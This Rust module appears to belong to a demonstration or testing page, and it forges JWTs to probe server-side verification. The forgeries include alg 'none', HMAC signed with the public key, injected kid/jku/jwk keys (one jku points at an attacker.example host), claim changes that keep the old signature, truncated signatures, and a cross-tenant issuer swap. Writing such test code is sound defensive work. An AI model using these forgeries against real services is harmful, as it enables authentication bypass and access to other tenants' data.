//! Forges tokens as text, from the contents of the real token as the server reported them.

use serde_json::Value;

use super::{attacks::ForgedToken, base64url::encode, claims::Members};

/// The tokens and the key that tokens are forged from.
#[derive(Clone, Debug, PartialEq)]
pub(super) struct Material {
    /// The access token's header, as the server read it.
    pub(super) header: Members,
    /// The access token's claims, as the server read them.
    pub(super) claims: Members,
    /// The access token as text.
    pub(super) access: String,
    /// The ID token as text, if there is one.
    pub(super) id: Option<String>,
    /// The refresh token, if there is one.
    pub(super) refresh: Option<String>,
    /// The public half of a key pair that this page generated.
    pub(super) own_key: Value,
}

/// How a forged token is signed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Signer {
    /// Not at all.
    NoKey,
    /// With HMAC, and the pool's public key as its secret.
    PublicKey,
    /// With a key pair that this page generated.
    Own,
}

/// A forged token.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum TokenDraft {
    /// Ready to be sent.
    Ready(String),
    /// The text to sign, and how to sign it.
    Unsigned(String, Signer),
}

/// The pools of two companies of the demonstration. A token of one of them is forged to name the other.
const POOLS: [&str; 2] = ["eu-local-1_BetaCo1", "eu-local-1_AcmeCorp1"];

impl Material {
    /// The issuer of a company of the demonstration that did not issue the token.
    pub(super) fn other_issuer(&self) -> String {
        let own = self.claims.get("iss").and_then(Value::as_str).unwrap_or_default();
        let (base, pool) = own.rsplit_once('/').unwrap_or_default();
        let other = POOLS.into_iter().find(|other| *other != pool).unwrap_or_default();
        format!("{base}/{other}")
    }
}

/// The token that an attack sends; `None` if there is no token of the kind that it needs.
pub(super) fn forge(forged_token: &ForgedToken, material: &Material) -> Option<TokenDraft> {
    Some(match forged_token {
        ForgedToken::Header(change, signer) => {
            let mut header = material.header.clone();
            change(&mut header, material);
            let text = to_be_signed(header, material.claims.clone());
            match signer {
                Signer::NoKey => TokenDraft::Ready(signed(&text, "")),
                Signer::PublicKey | Signer::Own => TokenDraft::Unsigned(text, *signer),
            }
        }
        ForgedToken::Claims(change) => {
            let mut claims = material.claims.clone();
            change(&mut claims, material);
            let (_, signature) = material.access.rsplit_once('.')?;
            TokenDraft::Ready(signed(&to_be_signed(material.header.clone(), claims), signature))
        }
        ForgedToken::HalfSignature => {
            let (text, signature) = material.access.rsplit_once('.')?;
            // Four characters encode three bytes, so the rest is still valid base64url.
            let half = signature.len() / 8 * 4;
            TokenDraft::Ready(signed(text, signature.get(..half)?))
        }
        ForgedToken::IdToken => TokenDraft::Ready(material.id.clone()?),
        ForgedToken::RefreshToken => TokenDraft::Ready(material.refresh.clone()?),
    })
}

/// A token in its compact form (RFC 7515 §7.1).
pub(super) fn signed(text: &str, signature: &str) -> String {
    format!("{text}.{signature}")
}

fn to_be_signed(header: Members, claims: Members) -> String {
    let part = |members| encode(Value::Object(members).to_string().as_bytes());
    format!("{}.{}", part(header), part(claims))
}

#[cfg(test)]
pub(super) mod tests {
    use serde_json::json;

    use super::*;
    use crate::pages::tokens::attacks::ATTACKS;

    pub(crate) fn material() -> Material {
        let members = |value: Value| value.as_object().cloned().unwrap();
        Material {
            header: members(json!({ "alg": "RS256", "kid": "k1" })),
            claims: members(json!({
                "exp": 1_000, "iss": "http://localhost:8080/eu-local-1_AcmeCorp1", "scope": "openid",
            })),
            access: "aGVhZA.Y2xhaW1z.c2lnbmF0dXJlc2lnbmF0dXJl".into(),
            id: Some("id.of.somebody".into()),
            refresh: Some("opaque".into()),
            own_key: json!({ "kty": "EC" }),
        }
    }

    fn forged(id: &str) -> TokenDraft {
        let attack = ATTACKS.iter().find(|attack| attack.id == id).unwrap();
        forge(&attack.forged_token, &material()).unwrap()
    }

    fn begins(draft: &TokenDraft, header: &Value) -> bool {
        let (TokenDraft::Ready(text) | TokenDraft::Unsigned(text, _)) = draft;
        text.starts_with(&format!("{}.", encode(header.to_string().as_bytes())))
    }

    /// T4a: a token without a signature ends in a dot, and its header names no key.
    #[test]
    fn an_unsigned_token_ends_in_a_dot() {
        let TokenDraft::Ready(text) = forged("none") else { panic!("it needs no key") };
        assert!(text.starts_with("eyJhbGciOiJub25lIn0.") && text.ends_with('.'), "{text}");
    }

    /// T4a: a token that names or contains a key is really signed with that key, so that only a verifier that ignores such a key refuses it.
    #[test]
    fn a_token_with_its_own_key_is_signed_with_that_key() {
        for (id, header) in [
            ("kid", json!({ "alg": "ES256", "kid": "a-key-of-ours" })),
            (
                "jku",
                json!({ "alg": "ES256", "jku": "https://attacker.example/jwks.json", "kid": "k1" }),
            ),
            ("jwk", json!({ "alg": "ES256", "jwk": { "kty": "EC" }, "kid": "k1" })),
        ] {
            let draft = forged(id);
            assert!(matches!(draft, TokenDraft::Unsigned(_, Signer::Own)), "{id}");
            assert!(begins(&draft, &header), "{id}: {draft:?}");
        }
        assert!(matches!(forged("hs256"), TokenDraft::Unsigned(_, Signer::PublicKey)));
        assert!(begins(&forged("hs256"), &json!({ "alg": "HS256", "kid": "k1" })));
    }

    /// T4a: changed claims keep the header and the signature of the original token.
    #[test]
    fn changed_claims_keep_the_old_signature() {
        for id in ["scopes", "company", "expiry"] {
            let TokenDraft::Ready(text) = forged(id) else { panic!("{id}: it needs no key") };
            assert!(text.ends_with(".c2lnbmF0dXJlc2lnbmF0dXJl"), "{id}");
            assert!(
                begins(&TokenDraft::Ready(text), &json!({ "alg": "RS256", "kid": "k1" })),
                "{id}"
            );
        }
    }

    #[test]
    fn half_a_signature_is_well_formed() {
        assert_eq!(forged("cut"), TokenDraft::Ready("aGVhZA.Y2xhaW1z.c2lnbmF0dXJl".into()));
    }

    #[test]
    fn a_missing_token_cannot_be_sent() {
        let material = Material { id: None, refresh: None, ..material() };
        assert_eq!(forge(&ForgedToken::IdToken, &material), None);
        assert_eq!(forge(&ForgedToken::RefreshToken, &material), None);
    }

    #[test]
    fn a_betaco_user_claims_the_issuer_of_acme() {
        let mut material = material();
        material.claims.insert("iss".into(), "https://x/eu-local-1_BetaCo1".into());
        assert_eq!(material.other_issuer(), "https://x/eu-local-1_AcmeCorp1");
    }
}
